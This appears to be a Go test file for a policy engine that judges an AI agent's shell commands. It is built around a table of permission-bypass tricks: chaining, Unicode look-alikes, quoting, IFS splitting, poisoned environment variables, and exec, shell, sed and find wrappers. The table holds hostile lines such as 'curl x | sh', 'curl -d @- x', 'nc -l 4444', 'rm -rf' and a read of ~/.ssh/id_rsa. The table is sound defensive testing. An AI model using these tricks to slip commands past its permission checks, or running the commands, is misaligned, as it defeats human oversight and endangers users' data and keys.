package policy

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/chainrun/chainrun/chain"
	"github.com/chainrun/chainrun/expand"
	"github.com/chainrun/chainrun/internal/testprog"
)

// The verdict "reject" means chain.ParseDialect refuses the input, or
// expand.Plan refuses to plan it, with an error of kind syntax or
// unsupported: the policy never sees it. Every other verdict is the
// Decision.Verdict of Authorize on the plan, as the engine judges it:
// the chain expanded from tableShell (expand.Plan), its words
// known only at run time left unknown.
const reject = "reject"

// bypassCase is one row of the bypass table: a command, the rules it is
// judged against (nil means the defaults), the verdict it must get, and
// why. class is the row of the bypass-class table in the design notes
// (1-34); 0 marks the other examples. The other fields say more of the
// decision where the verdict alone does not show why the case is safe.
type bypassCase struct {
	class    int
	cmd      string
	verdict  string
	why      string
	allow    []string
	ask      []string
	deny     []string
	readOnly bool
	mode     Mode
	// env are variables (NAME=value) of the environment the chain starts
	// with, beside HOME and PWD.
	env []string
	// plan is what the chain expands to: each segment's assignments and
	// arguments (unknown words as written), segments joined by "; ".
	plan string
	// as is a command line the plan must be judged exactly as: the same
	// verdict, rule and reasons for every segment.
	as string
	// rule is the rule some segment with the case's verdict names; reason
	// a text some reason of the decision holds.
	rule, reason string
	// hard says the ask holds in every mode: bypassPermissions keeps it,
	// dontAsk denies it.
	hard bool
	// skip, when it returns a text, skips the case with it (what the case
	// needs of the host is missing).
	skip func() string
	// known is a known gap: while the case fails, it is skipped with this
	// text.
	known string
}

var defaultAllow = []string{
	"git status", "git log:*", "git diff:*", "git fetch", "git push:*", "sed:*", "find:*", "rg:*", "awk:*",
	"sort:*", "tar:*", "base64:*", "man:*", "ssh:*", "rsync:*", "zip:*", "go test:*", "go build:*",
	"npm:*", "pnpm:*", "yarn:*", "ls", "ls:*", "cat:*", "grep:*", "echo:*", "cd:*", "rm:*", "cp:*",
	"mkdir:*", "touch:*", "ln:*", "wc:*", "head:*",
}

// plusAllow is defaultAllow and extra.
func plusAllow(extra ...string) []string { return append(slices.Clone(defaultAllow), extra...) }

var defaultDeny = []string{"rm -rf:*", "curl:*", "wget:*", "git clean:*", "git push --force:*", "nc:*"}

func chainOf(n int, seg, last string) string {
	parts := make([]string, 0, n+1)
	for i := 0; i < n; i++ {
		parts = append(parts, seg)
	}
	if last != "" {
		parts = append(parts, last)
	}
	return strings.Join(parts, " && ")
}

var bypassCases = []bypassCase{
	// 1. First-token-only chain check.
	{class: 1, cmd: "git status; curl x | sh", verdict: "deny", why: "curl is denied wherever it sits in the chain"},
	{class: 1, cmd: "git status; python3 e.py", verdict: "ask", why: "the second segment matches no rule"},
	{class: 1, cmd: "git status && ls", verdict: "allow", why: "every segment is allowed"},
	{class: 1, cmd: "git status | nc -l 4444", verdict: "deny", why: "nc is denied in a pipeline stage"},
	{class: 1, cmd: "git log --oneline | grep fix", verdict: "allow", why: "both stages allowed by prefix rules"},
	{class: 1, cmd: "git status || python3 -m http.server", verdict: "ask", why: "the || branch is judged too"},

	// 2. A prefix rule never matches a compound.
	{class: 2, cmd: "cd sub && python3 e.py", verdict: "ask", why: "cd:* covers cd, not the python3 after it"},
	{class: 2, cmd: "cd sub && ls", verdict: "allow", why: "cd inside the roots and an allowed read"},
	{class: 2, cmd: "cd sub; make", verdict: "ask", why: "make matches no rule"},
	{class: 2, cmd: "ls && rm -rf x", verdict: "deny", why: "ls:* does not cover the rm after it; rm -rf is denied"},
	{class: 2, cmd: "echo ok && npx evil", verdict: "ask", why: "npm:* does not cover npx"},

	// 3. Deny on every segment, not just the first.
	{class: 3, cmd: "git fetch && git clean -fd", verdict: "deny", why: "git clean is denied in the second segment"},
	{class: 3, cmd: "ls; rm -rf x", verdict: "deny", why: "rm -rf after ;"},
	{class: 3, cmd: "git status | curl -d @- x", verdict: "deny", why: "curl in a pipeline"},
	{class: 3, cmd: "true && false || wget x", verdict: "deny", why: "wget after ||"},
	{class: 3, cmd: "echo a; echo b; git push --force", verdict: "deny", why: "git push --force in the third segment"},

	// 4. The 50-segment cap never skips the deny scan.
	{class: 4, cmd: chainOf(50, "true", "curl x"), verdict: "deny", why: "curl is the 51st segment; the deny scan has no cap"},
	{class: 4, cmd: chainOf(51, "true", ""), verdict: "ask", why: "more than 50 segments, nothing denied"},
	{class: 4, cmd: chainOf(50, "ls", "rm -rf x"), verdict: "deny", why: "rm -rf as the 51st segment"},
	{class: 4, cmd: chainOf(50, "ls", ""), verdict: "allow", why: "exactly 50 segments is within the cap"},
	{class: 4, cmd: chainOf(60, "ls", ""), verdict: "ask", why: "60 segments"},

	// 5. Newline splits; CR and Unicode separators are refused.
	{class: 5, cmd: "git log\nrm -rf x", verdict: "deny", why: "a newline separates segments like ;"},
	{class: 5, cmd: "git log\npython3 x", verdict: "ask", why: "the second line is a segment of its own"},
	{class: 5, cmd: "git log\nls", verdict: "allow", why: "both lines allowed"},
	{class: 5, cmd: "git log\rrm -rf x", verdict: reject, why: "a bare CR is refused by the rune screen"},
	{class: 5, cmd: "git log\u2028rm -rf x", verdict: reject, why: "U+2028 is refused"},
	{class: 5, cmd: "git log\u2029rm -rf x", verdict: reject, why: "U+2029 is refused"},
	{class: 5, cmd: "git log\u0085rm -rf x", verdict: reject, why: "U+0085 is refused"},

	// 6. Command substitution inside an allowed command.
	{class: 6, cmd: `git log --grep="$(id)"`, verdict: "ask", why: "$(…) inside double quotes"},
	{class: 6, cmd: "git commit -m `id`", verdict: "ask", why: "backticks"},
	{class: 6, cmd: `git log "$(cat x)"`, verdict: "ask", why: "$(…) as an argument"},
	{class: 6, cmd: `echo $(id)`, verdict: "ask", why: "$(…) unquoted"},
	{class: 6, cmd: `git diff $(git merge-base a b)`, verdict: "ask", why: "nested git in $(…)"},

	// 7. Substitution in command position. $(…) and backticks are refused;
	// a variable is expanded in the plan and judged as what it spells, and
	// one known only at run time asks, naming any deny rule it may match.
	{class: 7, cmd: `$(echo rm) -rf x`, verdict: "ask", why: "$(…) as the program: a word known only at run time is never allowed as a program, and may be rm; the run judges its output (denied there)"},
	{class: 7, cmd: "`echo rm` -rf x", verdict: "ask", why: "backticks as the program"},
	{class: 7, cmd: `$CMD x`, verdict: "ask", plan: "x", as: "x", why: "CMD unset: the plan runs x, judged as x"},
	{class: 7, cmd: `$CMD x`, verdict: "deny", env: []string{"CMD=rm"}, deny: []string{"Bash(rm:*)"}, plan: "rm x", rule: "Bash(rm:*)",
		why: "CMD=rm: the plan spells rm"},
	{class: 7, cmd: `CMD=rm; $CMD x`, verdict: "deny", deny: []string{"Bash(rm:*)"}, plan: "CMD=rm; rm x", rule: "Bash(rm:*)",
		why: "a variable the chain sets for sure is known to the plan"},
	{class: 7, cmd: `true && CMD=rm; $CMD x`, verdict: "ask", hard: true, deny: []string{"Bash(rm:*)"}, allow: []string{"Bash"},
		plan: "true; CMD=rm; $CMD x", rule: "Bash(rm:*)",
		reason: "may match deny rule Bash(rm:*): $CMD is known only at run time; it is judged again on its real value when it starts",
		why:    "CMD is set on a branch that may be skipped: the program is known only at run time, and may be rm"},
	{class: 7, cmd: `${X} -rf x`, verdict: "ask", plan: "-rf x", as: "-rf x", why: "X unset: the plan runs -rf"},
	{class: 7, cmd: `${X} -rf x`, verdict: "deny", env: []string{"X=rm"}, plan: "rm -rf x", rule: "rm -rf:*", why: "X=rm: rm -rf is denied"},

	// 8. Process substitution: each inner chain is judged with its
	// segment, as a command substitution's; the word is a pipe's path.
	{class: 8, cmd: `cat > >(sh)`, skip: procSubstHere, verdict: "ask", why: "the inner chain is a shell reading what cat writes"},
	{class: 8, cmd: `cat <(ls) <(ls)`, skip: procSubstHere, verdict: "allow", allow: []string{"cat:*", "ls:*"}, why: "both inner chains and diff are allowed; /dev/fd/63 is a pipe"},
	{class: 8, cmd: `sh < <(curl x)`, skip: procSubstHere, verdict: "deny", why: "curl in the inner chain is denied"},
	{class: 8, cmd: `cat <(rm -rf x)`, skip: procSubstHere, verdict: "deny", rule: "rm -rf:*", why: "the inner chain's deny denies the chain"},
	{class: 8, cmd: `tee >(rm -rf x) < /dev/null`, skip: procSubstHere, verdict: "deny", rule: "rm -rf:*", why: "an output substitution is judged too"},
	{class: 8, cmd: `cat <(cat ~/.ssh/id_rsa)`, skip: procSubstHere, verdict: "ask", reason: "ssh keys", why: "the inner chain reads a secret: asked as it is alone"},

	// 9. Arithmetic and parameter tricks. $((…)) and $[…] are computed in
	// the plan, but a variable whose value is not a number is refused (bash
	// would evaluate it as an expression, a[$(id)] included); indirect
	// expansion and the ${x@…} transformations but @U, @u and @L are
	// refused.
	{class: 9, cmd: `echo $[ x ]`, verdict: "allow", plan: "echo 0", as: "echo 0", why: "$[…] computed: x unset is 0"},
	{class: 9, cmd: `echo $[ x ]`, verdict: reject, env: []string{"x=a[$(id)]"}, why: "x is no number: bash would run id while evaluating it"},
	{class: 9, cmd: `echo $((x))`, verdict: reject, env: []string{"x=2+3"}, why: "x is an expression, not a number"},
	{class: 9, cmd: `echo ${x@P}`, verdict: reject, why: "${x@P} prompt expansion: bash would run any $(…) in the value (only @U, @u and @L are done)"},
	{class: 9, cmd: `echo ${!x}`, verdict: reject, why: "indirect expansion"},
	{class: 9, cmd: `echo $((1+2))`, verdict: "allow", plan: "echo 3", as: "echo 3", why: "arithmetic computed in the plan"},

	// 10. $IFS and short-flag clusters. ${IFS} is expanded in the plan, so
	// the words are judged as they split.
	{class: 10, cmd: `cat${IFS}/etc/passwd`, verdict: "ask", plan: "cat /etc/passwd", as: "cat /etc/passwd",
		why: "judged as cat /etc/passwd: a read outside the roots"},
	{class: 10, cmd: `cat${IFS}/etc/passwd`, verdict: "deny", deny: []string{"Read(//etc/passwd)"}, as: "cat /etc/passwd",
		why: "the Read deny rule sees the split path"},
	{class: 10, cmd: `IFS=/; cat${IFS}etc${IFS}passwd`, verdict: reject, why: "an IFS other than blanks is refused when it splits"},
	{class: 10, cmd: `sort -uo out.txt in.txt`, verdict: "ask", why: "-o hidden in the cluster -uo"},
	{class: 10, cmd: `rg -nz foo`, verdict: "ask", why: "-z hidden in the cluster -nz"},
	{class: 10, cmd: `sort -u in.txt`, verdict: "allow", why: "a cluster without a dangerous flag"},
	{class: 10, cmd: `sed -ni 1p f`, verdict: "ask", why: "-i hidden in the cluster -ni"},

	// 11. Line continuation folding.
	{class: 11, cmd: "echo \"$\\\n(id)\"", verdict: reject, why: "backslash-newline folds into $(id) in bash"},
	{class: 11, cmd: "git log \"$\\\n{x}\"", verdict: reject, why: "backslash-newline folds into ${x}"},
	{class: 11, cmd: "echo \\\n(id)", verdict: reject, why: "the joined line holds a subshell"},

	// 12. ANSI-C and locale quoting. $'…' is decoded in the plan and judged
	// as what it spells; $"…" is refused.
	{class: 12, cmd: `$'\x72m' -rf x`, verdict: "deny", deny: []string{"Bash(rm:*)"}, plan: "rm -rf x", rule: "Bash(rm:*)",
		why: `$'\x72m' spells rm`},
	{class: 12, cmd: `echo $"rm"`, verdict: reject, why: "locale quoting"},
	{class: 12, cmd: `git log $'--output=x'`, verdict: "ask", plan: "git log --output=x", reason: "guard: git log --output writes a file",
		why: "the guard sees the decoded option"},

	// 13. Quote and escape obfuscation of the name.
	{class: 13, cmd: `'rm' -rf x`, verdict: "deny", why: "quotes are removed before matching"},
	{class: 13, cmd: `\rm -rf x`, verdict: "deny", why: "a backslash is removed before matching"},
	{class: 13, cmd: `r''m -rf x`, verdict: "deny", why: "empty quotes inside the word"},
	{class: 13, cmd: `g"i"t push --force`, verdict: "deny", why: "double quotes inside the word"},
	{class: 13, cmd: `"git" status`, verdict: "allow", why: "the unquoted argv equals the exact rule"},
	{class: 13, cmd: `'git' 'status'`, verdict: "allow", why: "quoted words, same argv"},

	// 14. Path-qualified names.
	{class: 14, cmd: `/bin/./rm -rf x`, verdict: "deny", why: "deny matches the basename"},
	{class: 14, cmd: `/usr/bin/curl x`, verdict: "deny", why: "absolute path to a denied program"},
	{class: 14, cmd: `./git status`, verdict: "ask", why: "./git never allow-matches git status"},
	{class: 14, cmd: `/usr/bin/git status`, verdict: "ask", why: "an allow rule must spell the path"},
	{class: 14, cmd: `'C:\Windows\curl.exe' x`, verdict: "deny", why: "Windows path and .exe stripped for deny"},
	{class: 14, cmd: `/usr/bin/git status`, verdict: "allow", why: "a rule that spells the path allows it", allow: []string{"/usr/bin/git status"}},

	// 15. Case, extension and Unicode look-alikes.
	{class: 15, cmd: `RM -rf x`, verdict: "deny", why: "case-folded"},
	{class: 15, cmd: `rm.exe -rf x`, verdict: "deny", why: ".exe stripped"},
	{class: 15, cmd: `Curl.EXE x`, verdict: "deny", why: "case and extension"},
	{class: 15, cmd: `CURL. x`, verdict: "deny", why: "a trailing dot is ignored by Windows"},
	{class: 15, cmd: "\uff52\uff4d -rf x", verdict: "deny", why: "fullwidth rm folds to rm under NFKC"},
	{class: 15, cmd: "\uff47\uff49\uff54 status", verdict: "ask", why: "fullwidth git: a look-alike never allow-matches"},
	{class: 15, cmd: "r\u043c -rf x", verdict: "ask", why: "Cyrillic look-alike: not rm, and no rule allows it"},
	{class: 15, cmd: "r\u200bm -rf x", verdict: reject, why: "a zero-width space is refused"},
	{class: 15, cmd: "r\u202em -rf x", verdict: reject, why: "a bidi control is refused"},

	// 16. Unsafe variable prefixes.
	{class: 16, cmd: `PAGER=x git log`, verdict: "ask", why: "PAGER runs a program"},
	{class: 16, cmd: `GIT_SSH_COMMAND=x git fetch`, verdict: "ask", why: "GIT_SSH_COMMAND runs a program"},
	{class: 16, cmd: `LD_PRELOAD=x.so ls`, verdict: "ask", why: "LD_PRELOAD loads code"},
	{class: 16, cmd: `NODE_OPTIONS=--require=x npm test`, verdict: "ask", why: "NODE_OPTIONS loads code"},
	{class: 16, cmd: `PYTHONPATH=. python3 x.py`, verdict: "ask", why: "PYTHONPATH"},
	{class: 16, cmd: `BASH_ENV=x ls`, verdict: "ask", why: "BASH_ENV"},
	{class: 16, cmd: `PATH=. ls`, verdict: "ask", why: "PATH picks another ls"},
	{class: 16, cmd: `HOME=/tmp git log`, verdict: "ask", why: "HOME picks another git config"},
	{class: 16, cmd: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=sh git log`, verdict: "ask", why: "GIT_CONFIG_*"},
	{class: 16, cmd: `npm_config_script_shell=x npm test`, verdict: "ask", why: "npm_config_*"},
	{class: 16, cmd: `GOFLAGS=-toolexec=x go test ./...`, verdict: "ask", why: "GOFLAGS"},
	{class: 16, cmd: `SHELLOPTS=xtrace PS4='$(id)' ls`, verdict: "ask", why: "SHELLOPTS with PS4"},
	{class: 16, cmd: `LANG=C git log`, verdict: "allow", why: "LANG is a safe variable"},
	{class: 16, cmd: `TZ=UTC ls`, verdict: "allow", why: "TZ is a safe variable"},
	{class: 16, cmd: `FOO=1 curl x`, verdict: "deny", why: "deny strips every assignment"},
	{class: 16, cmd: `FOO=bar git status`, verdict: "ask", why: "an unknown assignment disqualifies the allow view"},
	{class: 16, cmd: `FOO=bar git status`, verdict: "allow", why: "an exact rule spelling the assignment", allow: []string{"FOO=bar git status"}},

	// 17. Env poisoning through shell built-ins. export, unset and NAME=value
	// alone are engine built-ins: a variable they put into the environment
	// asks unless it is on the safe-list; set, declare and source are
	// refused.
	{class: 17, cmd: `export PAGER=x && git log`, verdict: "ask", reason: "export puts PAGER into the environment of programs",
		why: "git log would run PAGER"},
	{class: 17, cmd: `set -v; ls`, verdict: reject, why: "set -v is refused (set runs only -e, -u, -x, -o pipefail)"},
	{class: 17, cmd: `unset X; ls`, verdict: "allow", reason: "engine built-in unset", why: "unset only takes variables away"},
	{class: 17, cmd: `declare x=1`, verdict: reject, why: "declare is refused"},
	{class: 17, cmd: `PATH=x`, verdict: "ask", reason: "the assignment PATH= changes an exported variable",
		why: "PATH is exported, so setting it alone reaches later programs"},
	{class: 17, cmd: `X=1; export X && ls`, verdict: "ask", reason: "export puts X into the environment of programs", why: "X is not on the safe-list"},
	{class: 17, cmd: `X=1 && ls`, verdict: "allow", reason: "sets chain variables (an engine built-in)", why: "a variable not exported only feeds expansions"},
	{class: 17, cmd: `export LANG=C && ls`, verdict: "allow", reason: "engine built-in export", why: "LANG is on the safe-list"},
	{class: 17, cmd: `source .env`, verdict: reject, why: "source is refused"},

	// 18. Assignments after a wrapper are the program.
	{class: 18, cmd: `timeout 10 FOO=./x git status`, verdict: "ask", why: "after timeout, FOO=./x is the program"},
	{class: 18, cmd: `nice FOO=bar git log`, verdict: "ask", why: "after nice, FOO=bar is the program"},
	{class: 18, cmd: `timeout 5 git status`, verdict: "allow", why: "timeout is stripped for allow"},
	{class: 18, cmd: `nohup git status`, verdict: "allow", why: "nohup is stripped for allow"},
	{class: 18, cmd: `timeout 5 PAGER=x rm -rf y`, verdict: "deny", why: "deny still sees the rm behind the word"},
	{class: 18, cmd: `stdbuf -oL timeout -s KILL 5 git log`, verdict: "allow", why: "wrapper options are skipped"},

	// 19. Exec wrappers.
	{class: 19, cmd: `env -S "sh -c 'curl x'"`, verdict: "deny", why: "env -S splits into sh -c, whose body is deny-scanned"},
	{class: 19, cmd: `env bash -c ls`, verdict: "ask", why: "a shell behind env is never allowed"},
	{class: 19, cmd: `xargs sh -c 'rm -rf x'`, verdict: "deny", why: "xargs then sh -c then rm -rf"},
	{class: 19, cmd: `env env env env sh -c 'curl x'`, verdict: "deny", why: "wrappers to a fixpoint"},
	{class: 19, cmd: `env ls`, verdict: "ask", why: "env is not stripped for allow"},
	{class: 19, cmd: `sudo rm -rf /`, verdict: "deny", why: "sudo unwrapped"},
	{class: 19, cmd: `sudo -u root curl x`, verdict: "deny", why: "sudo options skipped"},
	{class: 19, cmd: `nice -n 5 ionice -c 3 curl x`, verdict: "deny", why: "nice and ionice"},
	{class: 19, cmd: `timeout 5 nohup stdbuf -oL curl x`, verdict: "deny", why: "three wrappers"},
	{class: 19, cmd: `xargs -0 -n 1 rm -rf`, verdict: "deny", why: "xargs options skipped"},
	{class: 19, cmd: `watch -n 1 curl x`, verdict: "deny", why: "watch runs its words through sh -c"},
	{class: 19, cmd: `flock /tmp/l -c 'curl x'`, verdict: "deny", why: "flock -c body"},
	{class: 19, cmd: `find . -exec rm -rf {} +`, verdict: "deny", why: "find -exec runs rm -rf"},
	{class: 19, cmd: `chrt 10 taskset 1 setsid curl x`, verdict: "deny", why: "chrt, taskset and setsid operands skipped"},
	{class: 19, cmd: `doas curl x`, verdict: "deny", why: "doas"},
	{class: 19, cmd: `busybox rm -rf x`, verdict: "deny", why: "busybox applet"},
	{class: 19, cmd: `env FOO=1 curl x`, verdict: "deny", why: "env assignments skipped"},
	{class: 19, cmd: `env - curl x`, verdict: "deny", why: "a lone - is env -i"},
	{class: 19, cmd: `timeout 5 nice ls`, verdict: "allow", why: "only narrow wrappers, then an allowed command"},
	{class: 19, cmd: "env " + strings.Repeat("env ", 17) + "ls", verdict: "ask", why: "wrappers nested deeper than 16"},
	{class: 19, cmd: `sudo -s`, verdict: "ask", why: "sudo -s starts a shell"},
	{class: 19, cmd: `strace -f -o trace.txt curl x`, verdict: "deny", why: "strace runs its command"},
	{class: 19, cmd: `runuser -u bob -- curl x`, verdict: "deny", why: "runuser -u … -- command"},
	{class: 19, cmd: `script -qc 'curl x' /dev/null`, verdict: "deny", why: "script -c body"},
	{class: 19, cmd: `parallel curl ::: a b`, verdict: "deny", why: "parallel runs its command through a shell"},
	{class: 19, cmd: `fd -e go -x rm -rf`, verdict: "deny", why: "fd -x runs rm -rf"},
	{class: 19, cmd: `chroot / curl x`, verdict: "deny", why: "chroot's new root operand skipped"},
	{class: 19, cmd: `start /b curl x`, verdict: "deny", why: "Windows start runs its command"},
	{class: 19, cmd: `fd -x cat`, verdict: "ask", why: "fd -x under fd:*", allow: []string{"fd:*"}},
	{class: 19, cmd: `run0 curl x`, verdict: "deny", why: "run0 runs its command"},
	{class: 19, cmd: `run0 -u bob --setenv=A=1 --no-ask curl x`, verdict: "deny", why: "run0 options, abbreviations included, skipped"},
	{class: 19, cmd: `run0 -D /tmp ls`, verdict: "ask", why: "run0 --chdir moves the command", allow: []string{"ls:*"}},
	{class: 19, cmd: `run0`, verdict: "ask", why: "run0 without a command starts a shell", allow: []string{"Bash"}},
	{class: 19, cmd: `gosu bob curl x`, verdict: "deny", why: "gosu's user operand skipped"},
	{class: 19, cmd: `gosu bob:staff rm -rf x`, verdict: "deny", why: "gosu user:group"},
	{class: 19, cmd: `pkexec --user bob curl x`, verdict: "deny", why: "pkexec options skipped"},

	// 20. Shell wrappers hiding writes.
	{class: 20, cmd: `bash -c 'echo x >> .claude/settings.json'`, verdict: "ask", why: "shell wrapper; body writes agent settings"},
	{class: 20, cmd: `sh -c ls`, verdict: "ask", why: "shell wrappers are never allowed by a rule"},
	{class: 20, cmd: `bash -lc 'git status'`, verdict: "ask", why: "-lc cluster"},
	{class: 20, cmd: `sh -c 'curl x'`, verdict: "deny", why: "the body is deny-scanned"},
	{class: 20, cmd: `zsh -ec 'rm -rf y'`, verdict: "deny", why: "-ec cluster, rm -rf in the body"},
	{class: 20, cmd: `bash -c 'ls $(id)'`, verdict: "ask", why: "an unreadable body asks"},
	{class: 20, cmd: `dash -c 'ls; curl x'`, verdict: "deny", why: "every body segment is scanned"},
	{class: 20, cmd: `bash script.sh`, verdict: "ask", why: "a script file cannot be judged"},
	{class: 20, cmd: `cmd /c curl x`, verdict: "deny", why: "cmd /c body"},
	{class: 20, cmd: `powershell -Command curl x`, verdict: "deny", why: "powershell -Command body"},
	{class: 20, cmd: `su -c 'curl x'`, verdict: "deny", why: "su -c body"},
	{class: 20, cmd: `sh -c ls`, verdict: "ask", why: "even the catch-all Bash rule does not allow a shell wrapper", allow: []string{"Bash"}},

	// 21. find actions.
	{class: 21, cmd: `find . -exec cp {} /tmp \;`, verdict: "ask", why: "-exec under find:* running a writer"},
	{class: 21, cmd: `find docs -exec cat {} \;`, verdict: "allow", why: "-exec of cat, read-only and allowed by cat:*: judged like cat"},
	{class: 21, cmd: `find . -exec cat {} \;`, verdict: "ask", why: "-exec of cat: a link below . leads to ~/.ssh",
		reason: "link found below", skip: needSymlinks},
	{class: 21, cmd: `find . -execdir chmod +x {} \;`, verdict: "ask", why: "-execdir of a writer"},
	{class: 21, cmd: `find docs -execdir ls \;`, verdict: "allow", why: "-execdir of ls, read-only and allowed"},
	{class: 21, cmd: `find . -exec cat {} \;`, verdict: "ask", why: "Read deny rules cannot be checked on what find finds",
		deny: []string{"Read(./secret/**)"}},
	{class: 21, cmd: `find . -ok rm {} \;`, verdict: "ask", why: "-ok"},
	{class: 21, cmd: `find . -delete`, verdict: "ask", why: "-delete"},
	{class: 21, cmd: `find . -fprint out`, verdict: "ask", why: "-fprint writes"},
	{class: 21, cmd: `find . -fls out`, verdict: "ask", why: "-fls writes"},
	{class: 21, cmd: `find . -name x -print`, verdict: "allow", why: "a plain search"},
	{class: 21, cmd: `find . -name x.pyc -delete`, verdict: "allow", why: "an exact rule is taken as written; the removal below . is judged as rm's",
		allow: []string{"find . -name x.pyc -delete"}, mode: ModeAcceptEdits},
	{class: 21, cmd: `find . -delete`, verdict: "ask", why: "an exact rule, but the removal reaches .claude and .git, sensitive",
		allow: []string{"find . -delete"}, mode: ModeAcceptEdits, reason: "may remove", hard: true},

	// 22. sed exec and write.
	{class: 22, cmd: `sed 's/a/b/e' f`, verdict: "ask", why: "s///e"},
	{class: 22, cmd: `sed 1e f`, verdict: "ask", why: "the e command"},
	{class: 22, cmd: `sed 'w out' f`, verdict: "ask", why: "the w command"},
	{class: 22, cmd: `sed -i s/a/b/ f`, verdict: "ask", why: "-i"},
	{class: 22, cmd: `sed --in-pl s/a/b/ f`, verdict: "ask", why: "GNU abbreviation of --in-place"},
	{class: 22, cmd: `sed 's/a/b/w out' f`, verdict: "ask", why: "s///w"},
	{class: 22, cmd: `sed -e p -e '1e id' f`, verdict: "ask", why: "the second -e script"},
	{class: 22, cmd: `sed --expression=1e f`, verdict: "ask", why: "--expression= form"},
	{class: 22, cmd: `sed -f script.sed f`, verdict: "ask", why: "a script file cannot be checked"},
	{class: 22, cmd: `sed -n 1p f`, verdict: "allow", why: "a print"},
	{class: 22, cmd: `sed 's/a/b/g' f`, verdict: "allow", why: "a substitution to stdout"},
	{class: 22, cmd: `sed '/x/d;s|a|b|2' f`, verdict: "allow", why: "delete and a numbered substitution"},
	// sed -i is an Edit of its file operands: a rule covering sed allows
	// it where every file is Edit-allowed, and a script that reads or
	// writes other files, or a backup suffix, still asks.
	{class: 22, cmd: `sed -i s/a/b/ f`, verdict: "ask", why: "default mode: the edit needs an Edit rule", reason: "path f is a write, which needs an Edit allow rule"},
	{class: 22, cmd: `sed -i s/a/b/ f`, verdict: "allow", why: "an Edit rule covers the file", allow: plusAllow("Edit(./f)")},
	{class: 22, cmd: `sed -i s/a/b/ f g`, verdict: "ask", why: "one file without Edit permission", allow: plusAllow("Edit(./f)")},
	{class: 22, cmd: `sed --in-place -e s/a/b/ f`, verdict: "allow", why: "acceptEdits inside the roots", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed -i s/a/b/ f`, verdict: "allow", why: "acceptEdits without a sed rule", mode: ModeAcceptEdits, allow: []string{"ls"}},
	{class: 22, cmd: `sed -i s/a/b/ f`, verdict: "deny", why: "an Edit deny wins", mode: ModeAcceptEdits, deny: []string{"Edit(./f)"}},
	{class: 22, cmd: `sed -i s/a/b/ /etc/hosts`, verdict: "ask", why: "outside the roots", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed -i s/a/b/ .env`, verdict: "ask", why: "a sensitive file", mode: ModeAcceptEdits, hard: true},
	{class: 22, cmd: `sed -i 'e id' f`, verdict: "ask", why: "the e command", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed -i 's/a/b/w out' f`, verdict: "ask", why: "s///w", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed -i 'W out' f`, verdict: "ask", why: "the W command", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed -i '1r g' f`, verdict: "ask", why: "the r command reads another file", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed -i 'R g' f`, verdict: "ask", why: "the R command reads another file", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed -i.bak s/a/b/ f`, verdict: "allow", why: "a backup suffix writes f.bak beside f, an Edit too", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed --in-place=.orig s/a/b/ f`, verdict: "allow", why: "a backup suffix, long form", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed -i.bak s/a/b/ f`, verdict: "ask", why: "the backup needs Edit permission of its own", allow: plusAllow("Edit(./f)"),
		reason: "sed -i backup f.bak is a write"},
	{class: 22, cmd: `sed -i.bak s/a/b/ f`, verdict: "deny", why: "an Edit deny on the backup", mode: ModeAcceptEdits, deny: []string{"Edit(./f.bak)"}},
	{class: 22, cmd: `sed -i.bak s/a/b/ {HOME}/x`, verdict: "ask", why: "the backup lands outside the roots too", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed '-ibak/*' s/a/b/ f`, verdict: "ask", why: "a suffix naming another directory", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed --in-place='old_*' s/a/b/ f`, verdict: "ask", why: "a suffix holding the file's name", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed -i '' 'w out' f`, verdict: "ask", why: "BSD sed reads the second word as the script", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed -i '' s/a/b/ f`, verdict: "allow", why: "BSD form, a plain substitution", mode: ModeAcceptEdits},
	{class: 22, cmd: `sed -i -f s.sed f`, verdict: "ask", why: "a script file cannot be checked", mode: ModeAcceptEdits},
	{class: 22, cmd: `true && X=p; sed -i "$X" f`, verdict: "ask", why: "a script known only at run time", mode: ModeAcceptEdits},
	{class: 22, cmd: `true && X=f; sed -i s/a/b/ $X`, verdict: "ask", why: "a word known only at run time may be an option or a script", mode: ModeAcceptEdits},
	// Every other in-place editor is the same Edit of its operands; a
	// directory (or a pattern the program expands itself) is formatted
	// whole, a write of its tree; an option writing the file it names
	// (sort -o, curl -o) is an Edit of that file.
	{class: 22, cmd: `gofmt -w docs`, verdict: "allow", why: "acceptEdits inside the roots", mode: ModeAcceptEdits, allow: plusAllow("gofmt:*")},
	{class: 22, cmd: `gofmt -w docs`, verdict: "ask", why: "default mode: the edit needs an Edit rule", allow: plusAllow("gofmt:*"),
		reason: "is a write, which needs an Edit allow rule"},
	{class: 22, cmd: `gofmt -w docs/readme.md`, verdict: "allow", why: "an Edit rule covers the file", allow: plusAllow("gofmt:*", "Edit(./docs/**)")},
	{class: 22, cmd: `gofmt -l docs`, verdict: "allow", why: "without -w gofmt reads", allow: plusAllow("gofmt:*")},
	{class: 22, cmd: `gofmt -w .`, verdict: "ask", why: "an Edit deny below the tree", mode: ModeAcceptEdits, allow: plusAllow("gofmt:*"),
		deny: []string{"Edit(./docs/readme.md)"}, reason: "Edit(./docs/readme.md)"},
	{class: 22, cmd: `gofmt -l .`, verdict: "ask", why: "a Read deny below the tree it reads", allow: plusAllow("gofmt:*"),
		deny: []string{"Read(./docs/readme.md)"}, reason: "reads the tree"},
	{class: 22, cmd: `gofmt -w {HOME}/x.go`, verdict: "ask", why: "outside the roots", mode: ModeAcceptEdits, allow: plusAllow("gofmt:*")},
	{class: 22, cmd: `gofmt -w .env`, verdict: "ask", why: "a sensitive file", mode: ModeAcceptEdits, allow: plusAllow("gofmt:*"), hard: true},
	{class: 22, cmd: `prettier --write 'docs/**/*.md'`, verdict: "allow", why: "its own pattern: the tree of docs", mode: ModeAcceptEdits,
		allow: plusAllow("prettier:*")},
